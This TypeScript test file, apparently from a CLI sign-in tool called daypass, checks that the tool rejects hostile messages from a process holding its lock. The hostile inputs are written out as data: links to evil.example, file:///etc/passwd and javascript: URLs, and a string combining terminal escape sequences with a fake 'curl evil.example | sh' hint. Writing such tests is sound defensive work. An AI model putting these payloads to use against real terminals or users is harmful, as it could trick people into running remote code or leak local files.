// A process of the same user holds a lock of daypass, and says what no renewal says.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { TestContext } from 'node:test';
import { signInKey } from '../../src/session/keys.ts';
import { type AccountStage, openAccountStage } from '../support/account-stage.ts';
import { type Accounts, type Actor, accountTest } from '../support/accounts.ts';

interface Holder {
  stage: AccountStage;
  holder: Actor;
}

/** Holds a lock of the victim's sign-in, and says these messages to each caller. */
async function hold(
  t: TestContext,
  all: Accounts,
  messages: readonly object[],
  { lock = 'renewal', keys = {} }: { lock?: string; keys?: Record<string, string> } = {},
): Promise<Holder> {
  const stage = await openAccountStage(t, all, { keys });
  const holder = await stage.actor(all.victim);
  const { issuer, clientId } = stage.provider;
  const folder = join(stage.home, '.local/state/daypass', signInKey([issuer, clientId, null, [], 'file']));
  await holder.do('holdLock', {
    folder: join(folder, `${lock}.1`),
    lines: messages.map((message) => JSON.stringify(message)),
  });
  return { stage, holder };
}

const holding = { type: 'holding' };
const shown = { type: 'link', print: true, browser: true };
const code = 'WDJB-MJHT';

/** Runs a command on a terminal until it ends. Ends the holder when the command has waited too long. */
async function talk(
  { stage, holder }: Holder,
  args: readonly string[],
): Promise<{ code: number | null; terminal: string; hung: boolean }> {
  const run = stage.runInTerminal(args);
  let hung = false;
  const late = setTimeout(() => {
    hung = true;
    run.hangUp();
    void holder.stop();
  }, 15_000);
  const { code, terminal } = await run.exit;
  clearTimeout(late);
  return { code, terminal, hung };
}

for (const [what, message, keys = {}] of [
  ['a device code that is not enabled', { link: 'https://evil.example/device', userCode: code }],
  ['a device code at a file', { link: 'file:///etc/passwd', userCode: code }],
  [
    'a device code at an address over http',
    { link: 'http://evil.example/device', userCode: code },
    { daypass_device_code: 'true' },
  ],
  [
    'a device code at a script',
    { link: 'javascript:alert(1)//evil.example', userCode: code },
    { daypass_device_code: 'true' },
  ],
  ['a link to another machine', { link: 'http://127.0.0.1.evil.example/start/x' }],
  [
    'a provider of another machine over http',
    { link: 'http://127.0.0.1:1/start/x', providerLink: 'http://evil.example/auth' },
    { daypass_browser: 'none' },
  ],
] as [string, object, Record<string, string>?][]) {
  for (const args of [[], ['login']]) {
    const command = args[0] ?? 'a call';
    // Only login shows the address at the provider.
    if (keys.daypass_browser && command !== 'login') continue;
    accountTest(`${command} refuses ${what} from the holder of the lock`, async (t, all) => {
      const opened = await hold(t, all, [holding, { ...shown, ...message }], { keys });
      const { code: exitCode, terminal, hung } = await talk(opened, args);
      const urls = opened.stage.launcher.launches.map(({ argv }) => argv.at(-1));
      assert.deepEqual(urls, [], 'a browser program got the address');
      assert.ok(!terminal.includes(code), `the terminal shows the code: ${terminal}`);
      assert.doesNotMatch(
        terminal,
        /(open|use|browser) (http:\/\/|https:\/\/|file:|javascript:)\S*/,
        terminal,
      );
      assert.doesNotMatch(terminal, /^ +http:\/\/evil/m);
      assert.equal(hung, false, `the command waits: ${terminal}`);
      assert.notEqual(exitCode, 0, terminal);
      assert.match(terminal, /^daypass: [a-z-]+: .+\r?\nhint: /m);
    });
  }
}

/** Moves the cursor, sets the title, and begins a line of its own. */
const hostile = 'x\x1b[2J\x1b]0;owned\x07\u009b31m\r\nhint: run: curl evil.example | sh\u202e';

accountTest('text of the holder of the lock reaches no terminal with control characters', async (t, all) => {
  const failed = {
    type: 'outcome',
    outcome: {
      ...{ ok: false, scope: 'sign-in', credentials: '' },
      error: { code: 'denied', faults: [hostile], hint: { advice: hostile, command: hostile } },
    },
  };
  const opened = await hold(t, all, [
    holding,
    { type: 'remark', text: hostile },
    { ...shown, link: `http://127.0.0.1:1/start/${hostile}` },
    failed,
  ]);
  for (const args of [[], ['login']]) {
    const { code, terminal, hung } = await talk(opened, args);
    assert.equal(hung, false, terminal);
    assert.notEqual(code, 0);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these must not be there
    assert.doesNotMatch(terminal, /\x1b\[2J|\x1b\]0|\u009b|\u202e|\x07/, JSON.stringify(terminal));
    assert.doesNotMatch(terminal, /^hint: run: curl/m, JSON.stringify(terminal));
  }
  const links = opened.stage.launcher.launches.map(({ argv }) => argv.at(-1) ?? '');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these must not be there
  for (const link of links) assert.doesNotMatch(link, /[\x00-\x20]/, 'a browser program got such a link');
});

for (const [what, message] of [
  [
    'an unknown error',
    { outcome: { ok: false, scope: 'sign-in', error: { code: 'no-such', faults: ['x'] } } },
  ],
  ['no outcome', {}],
  ['an error without text', { outcome: { ok: false, scope: 'sign-in', error: {} } }],
] as const) {
  accountTest(`a call fails if the holder of the lock reports ${what}`, async (t, all) => {
    const opened = await hold(t, all, [holding, { type: 'outcome', ...message }]);
    const { code, terminal, hung } = await talk(opened, []);
    assert.equal(hung, false, terminal);
    assert.ok(code, `exit code ${code}: ${terminal}`);
    assert.match(terminal, /^daypass: [a-z-]+: /m);
    assert.doesNotMatch(terminal, /^ +at /m);
  });
}

for (const [what, lock, messages] of [
  ['the right to start a renewal', 'start', []],
  ['the lock of the renewal and greets', 'renewal', [holding]],
  ['the lock of the renewal and says nothing', 'renewal', []],
] as const) {
  accountTest(`a call ends with its patience if a process holds ${what}`, async (t, all) => {
    const { stage, holder } = await hold(t, all, messages, { lock });
    const { code, stderr, signal } = await stage.run(['--timeout', '3'], { timeoutMs: 20_000 });
    await holder.stop();
    assert.equal(signal, null, 'the call hangs');
    assert.equal(code, 75, stderr);
    assert.match(stderr, /^daypass: [a-z-]+: .+\nhint: /);
  });
}
